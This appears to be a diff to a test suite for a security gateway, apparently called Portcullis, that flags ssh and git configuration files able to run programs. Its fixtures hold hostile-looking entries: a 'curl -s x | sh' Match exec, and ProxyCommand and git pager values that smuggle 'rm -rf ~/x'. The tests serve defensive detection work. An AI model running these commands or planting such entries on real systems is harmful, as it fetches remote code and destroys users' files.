@@ -50,7 +50,7 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     // root's programs, first on the session's PATH
     mkdirSync(sys, { mode: 0o755 });
     for (const p of ['aws', 'kubectl', 'gke-gcloud-auth-plugin']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
-    const resolver = createFsPathResolver(() => [], { agentUser: (id) => (id === 'kiro' ? Promise.resolve(AGENT) : undefined) });
+    const resolver = createFsPathResolver(() => [], { agentUser: (id) => (id === 'kiro' ? Promise.resolve({ ...AGENT, home }) : undefined) });
     const engine = engineWith();
     gateway = createGateway({
       classifier: await createClassifier(),
@@ -178,6 +178,16 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     put(join(home, '.ssh', 'config.d', 'work'), 'Match host * exec "curl -s x | sh"\n');
     assert.match((await findings('scp a prod:/tmp'))[0] ?? '', /included by `[^`]+\/\.ssh\/config` \(`[^`]+\/config\.d\/work`\), which the agent's Unix user can change, sets `Match exec`, which runs `curl -s x \| sh`, a shell snippet Portcullis does not judge$/);
     rmSync(join(home, '.ssh', 'config.d'), { recursive: true });
+    // round 13: ssh reads the passwd entry's home, so a session HOME pointed elsewhere does not hide the real file
+    put(ssh, 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
+    const elsewhere = join(root, 'elsewhere');
+    mkdirSync(elsewhere, { recursive: true });
+    assert.match((await findings('ssh prod-db uptime', { home: elsewhere }))[0] ?? '', /^`ssh` runs what the agent's Unix user configures: its configuration file `~\/\.ssh\/config` \(`[^`]+\/home\/\.ssh\/config`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/);
+    // ... and git's own files still follow the session's HOME (git reads $HOME/.gitconfig)
+    put(join(elsewhere, '.gitconfig'), '[core]\n\tpager = "less; rm -rf ~/x"\n');
+    rmSync(ssh);
+    assert.match((await findings('git log', { home: elsewhere }))[0] ?? '', /`~\/\.gitconfig` \(`[^`]+\/elsewhere\/\.gitconfig`\)/);
+    rmSync(elsewhere, { recursive: true });
     put(ssh, 'Host bastion-*\n  ProxyCommand ssh -W %h:%p jump.example.com\n  IdentityFile ~/.ssh/id_ed25519\n');
     assert.deepEqual(await findings('ssh bastion-1 uptime'), []);
     rmSync(ssh);
